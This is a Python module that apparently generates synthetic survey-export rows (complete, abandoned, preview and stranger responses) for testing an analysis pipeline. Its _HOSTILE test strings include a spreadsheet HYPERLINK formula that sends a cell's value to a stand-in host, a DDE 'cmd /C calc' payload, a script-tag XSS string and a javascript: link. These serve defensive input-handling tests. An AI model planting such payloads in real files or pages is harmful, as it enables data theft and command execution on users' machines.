"""The responses of a wave as a survey tool holds them: complete ones, abandoned ones, previews and strangers."""

from __future__ import annotations

import string
from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from typing import Final

import numpy as np

from halden.accounts import Account, domain_of
from halden.chance import pick, stream
from halden.comments import SILENCE, Comment, Writer
from halden.contacts import Contact
from halden.opinions import Opinion, Population

# Exports carry no time zone, and neither do these.
OPENS: Final = {"2025": datetime.fromisoformat("2025-05-12T07:00"), "2026": datetime.fromisoformat("2026-05-11T07:00")}
_ABANDONED: Final = 34
_PREVIEWS: Final = 5
_ALPHABET: Final = string.ascii_letters + string.digits
_STRANGERS: Final = ("Quellmark Testing GmbH", "Ostrava Ridge Labs Ltd", "Pellworth Foods plc")
_HOSTILE: Final = {
    "2025": ('<b>Faster</b> quotes & fewer forms, please; "2-3 days" is what we were promised.',),
    "2026": (
        '=HYPERLINK("http://refund.example/?a="&A1,"Click here for your refund")',
        "<script>alert('survey')</script> Your web portal shows us other people's orders.",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "[Read this](javascript:alert(1)) **now** | the manual table is broken",
    ),
}


@dataclass(frozen=True)
class Response:
    """One row of the export. `progress` is in per cent; times carry no zone, as in the export."""

    response_id: str
    opinion: Opinion
    better: Comment
    best: Comment
    language: str
    started: datetime
    seconds: int
    ip: str
    channel: str  # email | anonymous | preview
    company: str
    account_id: str
    progress: int = 100
    preview: bool = False

    @property
    def counts(self) -> bool:
        """Whether a real customer answered to the end."""
        return self.progress == 100 and not self.preview


def strangers() -> list[Contact]:
    """People who answered through a forwarded link; the account list does not know their companies."""
    return [_stranger(_STRANGERS[number % len(_STRANGERS)], number) for number in range(7)]


def _stranger(company: str, number: int) -> Contact:
    account = Account(
        9000 + number % len(_STRANGERS), "", company, domain_of(company), "", "", "", "english", "Balances", "", None, 0
    )
    return Contact(f"X-{number}", account, "", "", "", "Test Engineer", "", "", "influencer")


def make_responses(
    wave: str, taking_part: list[Contact], population: Population, others: list[Contact]
) -> list[Response]:
    """All rows of a wave in the order they were recorded; abandoned ones and previews come from `others`."""
    rng = stream(f"responses {wave}")
    writer = Writer(stream(f"comments {wave}"))
    complete = [_response(rng, writer, population.opinion(rng, contact, wave)) for contact in taking_part]
    complete = _with_hostile(complete, _HOSTILE[wave])
    chosen = [others[i] for i in rng.choice(len(others), size=_ABANDONED + _PREVIEWS, replace=False)]
    rest = [_response(rng, writer, population.opinion(rng, contact, wave)) for contact in chosen]
    abandoned = [
        replace(row, progress=pick(rng, (9, 27, 45, 63)), best=SILENCE, better=SILENCE) for row in rest[:_ABANDONED]
    ]
    previews = [_as_preview(row, wave, number) for number, row in enumerate(rest[_ABANDONED:])]
    return sorted(
        complete + abandoned + previews, key=lambda row: (row.started + timedelta(seconds=row.seconds), row.response_id)
    )


def _response(rng: np.random.Generator, writer: Writer, opinion: Opinion) -> Response:
    language = writer.language_of(opinion)
    contact = opinion.contact
    unknown = not contact.email or rng.random() < 0.02
    return Response(
        response_id="R_" + "".join(pick(rng, _ALPHABET) for _ in range(15)),
        opinion=opinion,
        better=_with_line_break(rng, writer.what_to_improve(opinion, language)),
        best=writer.what_we_do_best(opinion, language),
        language=language.upper(),
        started=_moment(rng, OPENS[opinion.wave]),
        seconds=int(np.clip(np.exp(rng.normal(5.9, 0.5)), 75, 6000)),
        ip=f"192.0.2.{int(rng.integers(1, 255))}",
        channel="anonymous" if unknown else "email",
        company=_as_recorded(rng, contact.account.name),
        account_id="" if unknown or rng.random() < 0.04 else contact.account.account_id,
    )


def _moment(rng: np.random.Generator, opens: datetime) -> datetime:
    """A moment of a working day: most answer in the first days and after the reminders."""
    day = pick(rng, (0, 14)) + min(10, int(rng.exponential(2.2)))
    day -= max(0, (day % 7) - 4)
    return opens + timedelta(days=day, seconds=int(rng.integers(0, 11 * 3600)))


def _as_recorded(rng: np.random.Generator, name: str) -> str:
    """The company as somebody typed it into the invitation list: mostly the CRM's spelling."""
    drawn = rng.random()
    if drawn < 0.05:
        return name.rsplit(" ", 1)[0].rstrip(",")
    if drawn < 0.07:
        return name.upper()
    if drawn < 0.08:
        return (
            name.replace("ü", "ue")
            .replace("Life Sciences", "Lifesciences")
            .replace("Pharmaceuticals", "Pharmaceutical")
        )
    return name


def _with_line_break(rng: np.random.Generator, comment: Comment) -> Comment:
    if rng.random() < 0.02 and ". " in comment.text:
        return replace(comment, text=comment.text.replace(". ", ".\n", 1))
    return comment


def _with_hostile(rows: list[Response], texts: tuple[str, ...]) -> list[Response]:
    """Put `texts` where people had left the field empty, so that nobody's own words are lost."""
    empty = [index for index, row in enumerate(rows) if not row.better.text]
    result = list(rows)
    for text, index in zip(texts, empty[5::17], strict=False):
        result[index] = replace(rows[index], better=Comment(text, "", "none"))
    return result


def _as_preview(row: Response, wave: str, number: int) -> Response:
    started = OPENS[wave] - timedelta(days=3 - number % 3, hours=-number)
    test = Comment(("test", "asdf", "Test comment please ignore", "", "xxx")[number], "", "none")
    return replace(
        row, preview=True, channel="preview", started=started, better=test, best=SILENCE, account_id="", company="Test"
    )
